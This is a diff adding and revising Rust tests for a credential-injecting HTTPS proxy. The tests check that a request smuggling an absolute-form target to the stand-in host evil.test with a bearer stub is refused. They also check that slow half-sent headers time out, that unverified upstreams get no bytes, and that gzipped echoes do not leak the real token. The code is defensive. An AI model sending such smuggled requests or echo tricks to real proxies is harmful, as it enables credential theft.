@@ -835,24 +835,18 @@ async fn ip_literals_and_the_proxy_itself_are_internal_destinations() {
 async fn an_absolute_form_target_inside_a_tunnel_cannot_leave_it() {
     let w = world(&[]).await;
     let port = w.upstream_port;
-    for request in [
-        format!("GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n\r\n"),
-        format!(
-            "GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n\
-             Authorization: Bearer {GH_STUB}\r\n\r\n"
-        ),
+    // The request target names evil.test, the Host header the CONNECT target: the target wins
+    // (RFC 9112 §3.2.2), so it is a Host mismatch, and with a stub aboard an alert.
+    for (extra, status) in [
+        (String::new(), "421"),
+        (format!("Authorization: Bearer {GH_STUB}\r\n"), "403"),
     ] {
-        let answer = raw_exchange(
-            &w,
-            format!("{request}")
-                .replace("HTTP/1.1\r\n", "HTTP/1.1\r\nConnection: close\r\n")
-                .as_bytes(),
-        )
-        .await;
-        assert!(
-            answer.starts_with("HTTP/1.1 421") || answer.starts_with("HTTP/1.1 403"),
-            "{answer}"
+        let request = format!(
+            "GET https://evil.test:{port}/x HTTP/1.1\r\nHost: api.github.test:{port}\r\n{extra}Connection: close\r\n\r\n"
         );
+        let answer = raw_exchange(&w, request.as_bytes()).await;
+        assert!(answer.starts_with(&format!("HTTP/1.1 {status}")), "{answer}");
+        assert!(answer.contains("evil.test"), "{answer}");
     }
     assert!(w.seen().is_empty(), "{:?}", w.seen());
 }
@@ -950,4 +944,233 @@ async fn substitution_is_one_pass_and_never_crosses_credentials() {
     assert_eq!(status, 403, "{output}");
     assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
     assert_eq!(w.seen().len(), 1);
+}
+
+/// Reads until the peer closes (true) or `limit` passes (false).
+async fn closed_within<S: tokio::io::AsyncRead + Unpin>(stream: &mut S, limit: std::time::Duration) -> bool {
+    use tokio::io::AsyncReadExt;
+    let mut sink = Vec::new();
+    tokio::time::timeout(limit, stream.read_to_end(&mut sink)).await.is_ok()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_head_sent_slowly_is_cut_off_at_a_bounded_deadline() {
+    use lap::vault::intercept::HEADER_READ_TIMEOUT;
+    use tokio::io::AsyncWriteExt;
+    let w = world(&[]).await;
+    let limit = HEADER_READ_TIMEOUT * 2 + std::time::Duration::from_secs(5);
+    let started = std::time::Instant::now();
+    // On the proxy listener: half a CONNECT line, then nothing.
+    let mut tcp = tokio::net::TcpStream::connect(w.proxy).await.unwrap();
+    tcp.write_all(b"CONNECT api.github.te").await.unwrap();
+    // Inside a tunnel: half a request head, with a stub, then nothing.
+    let mut tls = raw_tunnel(&w, "api.github.test", w.upstream_port).await;
+    let partial = format!("GET /slow HTTP/1.1\r\nAuthorization: Bearer {GH_STUB}\r\nX-Slow: ");
+    tls.write_all(partial.as_bytes()).await.unwrap();
+    tls.flush().await.unwrap();
+    let (listener, tunnel) = tokio::join!(closed_within(&mut tcp, limit), closed_within(&mut tls, limit));
+    assert!(
+        listener,
+        "the proxy listener kept a half-sent CONNECT open for {limit:?}"
+    );
+    assert!(tunnel, "the tunnel kept a half-sent request head open for {limit:?}");
+    assert!(
+        started.elapsed() >= HEADER_READ_TIMEOUT / 2,
+        "closed too early to be the timeout"
+    );
+    assert!(w.seen().is_empty());
+}
+
+/// Serves TLS with one fixed certificate and counts the application bytes it receives.
+async fn fixed_cert_upstream(key: Arc<rustls::sign::CertifiedKey>, bytes: Arc<std::sync::atomic::AtomicUsize>) -> u16 {
+    use tokio::io::AsyncReadExt;
+    #[derive(Debug)]
+    struct Fixed(Arc<rustls::sign::CertifiedKey>);
+    impl rustls::server::ResolvesServerCert for Fixed {
+        fn resolve(&self, _: rustls::server::ClientHello<'_>) -> Option<Arc<rustls::sign::CertifiedKey>> {
+            Some(self.0.clone())
+        }
+    }
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let config = rustls::ServerConfig::builder()
+        .with_no_client_auth()
+        .with_cert_resolver(Arc::new(Fixed(key)));
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    tokio::spawn(async move {
+        while let Ok((tcp, _)) = listener.accept().await {
+            let (acceptor, bytes) = (acceptor.clone(), bytes.clone());
+            tokio::spawn(async move {
+                let Ok(mut tls) = acceptor.accept(tcp).await else {
+                    return;
+                };
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = tls.read(&mut buf).await {
+                    if n == 0 {
+                        break;
+                    }
+                    bytes.fetch_add(n, std::sync::atomic::Ordering::SeqCst);
+                }
+            });
+        }
+    });
+    port
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_upstream_that_fails_verification_never_receives_a_byte_of_the_request() {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let dir = tempfile::tempdir().unwrap();
+    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
+    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("vault")).unwrap());
+    // A self-signed certificate for the right name, and a trusted one for the wrong name.
+    let self_signed = rcgen::generate_simple_self_signed(vec!["api.github.test".to_owned()]).unwrap();
+    let key = rustls_pki_types::PrivateKeyDer::Pkcs8(self_signed.signing_key.serialize_der().into());
+    let self_signed = Arc::new(rustls::sign::CertifiedKey::new(
+        vec![self_signed.cert.der().clone()],
+        rustls::crypto::ring::sign::any_supported_type(&key).unwrap(),
+    ));
+    let bytes = Arc::new(AtomicUsize::new(0));
+    let ports = [
+        fixed_cert_upstream(self_signed, bytes.clone()).await,
+        fixed_cert_upstream(public_ca.leaf("other.test").unwrap(), bytes.clone()).await,
+    ];
+    let resolve = ports
+        .iter()
+        .map(|&port| ResolveOverride {
+            host: "api.github.test".into(),
+            port,
+            addr: "127.0.0.1".parse().unwrap(),
+        })
+        .collect();
+    let root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
+    let vault = Arc::new(Vault::new(vault_ca.clone(), resolve, vec![root]).unwrap());
+    let binding = Arc::new(Binding::new(
+        vec![Credential {
+            name: "GITHUB_TOKEN".into(),
+            stub: GH_STUB.into(),
+            real: Secret::new(GH_REAL),
+            hosts: vec!["api.github.test".into()],
+        }],
+        Policy::new(&[], &[]),
+    ));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy = listener.local_addr().unwrap();
+    let stop = CancellationToken::new();
+    let _stop = stop.clone().drop_guard();
+    tokio::spawn(vault.serve(listener, binding.clone(), stop));
+    let ca_file = dir.path().join("vault-ca.pem");
+    std::fs::write(&ca_file, vault_ca.cert_pem()).unwrap();
+    for port in ports {
+        let url = format!("https://api.github.test:{port}/identity");
+        let auth = format!("Authorization: Bearer {GH_STUB}");
+        let (status, output) = support::upstream::curl(proxy, &ca_file, &["-H", &auth, &url]).await;
+        assert_eq!(status, 502, "{port}: {output}");
+        assert!(!output.contains(GH_REAL), "{output}");
+    }
+    assert_eq!(
+        bytes.load(Ordering::SeqCst),
+        0,
+        "an unverified upstream received request bytes"
+    );
+    assert!(!format!("{:?}", binding.audit.recent()).contains(GH_REAL));
+}
+
+/// gzip of `data`, by the system's `gzip`.
+fn gzip(data: &[u8]) -> Vec<u8> {
+    use std::io::Write;
+    let mut child = std::process::Command::new("gzip")
+        .arg("-c")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("gzip");
+    child.stdin.take().unwrap().write_all(data).unwrap();
+    child.wait_with_output().unwrap().stdout
+}
+
+/// An upstream that ignores `Accept-Encoding: identity` and answers with the request's
+/// `Authorization`, gzipped.
+async fn gzip_echo_upstream(ca: Arc<CertificateAuthority>) -> u16 {
+    use http_body_util::Full;
+    use hyper::body::Bytes;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let config = rustls::ServerConfig::builder()
+        .with_no_client_auth()
+        .with_cert_resolver(Arc::new(BySni(ca)));
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    tokio::spawn(async move {
+        while let Ok((tcp, _)) = listener.accept().await {
+            let acceptor = acceptor.clone();
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(tcp).await else { return };
+                let service = hyper::service::service_fn(|req: hyper::Request<hyper::body::Incoming>| async move {
+                    let auth = req
+                        .headers()
+                        .get("authorization")
+                        .map(|v| v.as_bytes().to_vec())
+                        .unwrap_or_default();
+                    let mut echo = b"{\"you_sent\":\"".to_vec();
+                    echo.extend_from_slice(&auth);
+                    echo.extend_from_slice(b"\"}");
+                    let response = hyper::Response::builder()
+                        .header("content-type", "application/json")
+                        .header("content-encoding", "gzip")
+                        .body(Full::new(Bytes::from(gzip(&echo))))
+                        .unwrap();
+                    Ok::<_, std::convert::Infallible>(response)
+                });
+                let _ = hyper::server::conn::http1::Builder::new()
+                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
+                    .await;
+            });
+        }
+    });
+    port
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_compressed_response_that_could_hide_a_real_value_is_not_passed_unscrubbed() {
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let dir = tempfile::tempdir().unwrap();
+    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
+    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("vault")).unwrap());
+    let port = gzip_echo_upstream(public_ca.clone()).await;
+    let resolve = vec![ResolveOverride {
+        host: "api.github.test".into(),
+        port,
+        addr: "127.0.0.1".parse().unwrap(),
+    }];
+    let root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
+    let vault = Arc::new(Vault::new(vault_ca.clone(), resolve, vec![root]).unwrap());
+    let binding = Arc::new(Binding::new(
+        vec![Credential {
+            name: "GITHUB_TOKEN".into(),
+            stub: GH_STUB.into(),
+            real: Secret::new(GH_REAL),
+            hosts: vec!["api.github.test".into()],
+        }],
+        Policy::new(&[], &[]),
+    ));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy = listener.local_addr().unwrap();
+    let stop = CancellationToken::new();
+    let _stop = stop.clone().drop_guard();
+    tokio::spawn(vault.serve(listener, binding.clone(), stop));
+    let ca_file = dir.path().join("vault-ca.pem");
+    std::fs::write(&ca_file, vault_ca.cert_pem()).unwrap();
+    let url = format!("https://api.github.test:{port}/echo");
+    let auth = format!("Authorization: Bearer {GH_STUB}");
+    for version in ["--http1.1", "--http2"] {
+        let (status, output) =
+            support::upstream::curl(proxy, &ca_file, &[version, "--compressed", "-H", &auth, &url]).await;
+        assert!(
+            !output.contains(GH_REAL),
+            "a gzipped echo carried the real value out: {output}"
+        );
+        assert_eq!(status, 502, "{output}");
+        assert!(output.contains("x-lap-vault-blocked"), "{output}");
+    }
 }
